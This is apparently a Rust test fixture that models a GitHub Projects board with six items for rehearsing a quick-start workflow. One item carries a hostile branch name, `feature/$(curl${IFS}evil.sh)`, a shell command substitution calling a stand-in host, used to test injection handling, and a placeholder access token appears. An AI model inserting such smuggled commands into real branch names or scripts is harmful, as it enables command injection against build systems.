//! The quick start's board (examples/quickstart/board.yaml) as a GitHub Projects board:
//! three items that succeed, one whose change leaves coverage below the threshold, and one
//! whose branch name carries a shell command substitution; and one more, [`MOVED`], which
//! a human moves to Backlog on GitHub after the producer queued it (not in board.yaml). As in board.yaml, CALC-1 is
//! assigned to [`CALC_ASSIGNEE`] (it succeeds: nobody is mentioned) and the coverage item
//! GREET-2 to [`COVERAGE_ASSIGNEE`] (its final failure mentions them).
//!
//! Invariant: the same repositories, branches, specs and pull requests as board.yaml, so
//! the rehearsal's outcomes can be compared with the quick start's. Two differences forced
//! by GitHub itself: item ids are Projects node ids (`PVTI_…`), and the hostile item is
//! its own pull request (#3 of acme/greeter), whose head ref `feature/$(curl${IFS}evil.sh)`
//! is a valid git ref (git refs cannot hold the space board.yaml's version has).

use super::github_fake::Item;

/// The personal access token stored in the GitHub token secret.
pub const PAT: &str = "ghp_rehearsalPersonalAccessToken0123456789";

/// The board item id of a quick-start item (`CALC-1` → `PVTI_lADOBk1Wus4AbCdEz_CALC-1`).
pub fn item_id(quickstart_id: &str) -> String {
    format!("PVTI_lADOBk1Wus4AbCdEz_{quickstart_id}")
}

/// The assignee of CALC-1, an item that succeeds.
pub const CALC_ASSIGNEE: &str = "octo-cat";
/// The assignee of GREET-2, the item dead-lettered for coverage.
pub const COVERAGE_ASSIGNEE: &str = "octo-reviewer";

/// The item whose card is moved off the board's statuses once it is queued.
pub const MOVED: &str = "CALC-3";
/// Where the human moves it.
pub const MOVED_TO: &str = "Backlog";

/// The hostile head ref.
pub const HOSTILE_BRANCH: &str = "feature/$(curl${IFS}evil.sh)";

pub fn quickstart_items() -> Vec<Item> {
    let item = |id: &str, title: &str, repo: &str, pr: u64, branch: &str, minute: u32| Item {
        id: item_id(id),
        title: title.into(),
        status: "For Implementation".into(),
        note: None,
        repo: repo.into(),
        pr,
        branch: branch.into(),
        updated_at: format!("2026-11-01T10:{minute:02}:00Z"),
        assignees: Vec::new(),
    };
    let assigned = |mut i: Item, login: &str| {
        i.assignees = vec![login.to_owned()];
        i
    };
    vec![
        assigned(
            item(
                "CALC-1",
                "Add a subtract function",
                "acme/calc",
                1,
                "feature/subtract",
                0,
            ),
            CALC_ASSIGNEE,
        ),
        item(
            "CALC-2",
            "Add a multiply function",
            "acme/calc",
            2,
            "feature/multiply",
            5,
        ),
        item(
            "GREET-1",
            "Greet by name",
            "acme/greeter",
            1,
            "feature/greet-name",
            10,
        ),
        assigned(
            item(
                "GREET-2",
                "Add farewells",
                "acme/greeter",
                2,
                "feature/farewell",
                15,
            ),
            COVERAGE_ASSIGNEE,
        ),
        item(
            "BAD-1",
            "A hostile branch name",
            "acme/greeter",
            3,
            HOSTILE_BRANCH,
            20,
        ),
        item(
            MOVED,
            "Add a divide function",
            "acme/calc",
            3,
            "feature/divide",
            25,
        ),
    ]
}
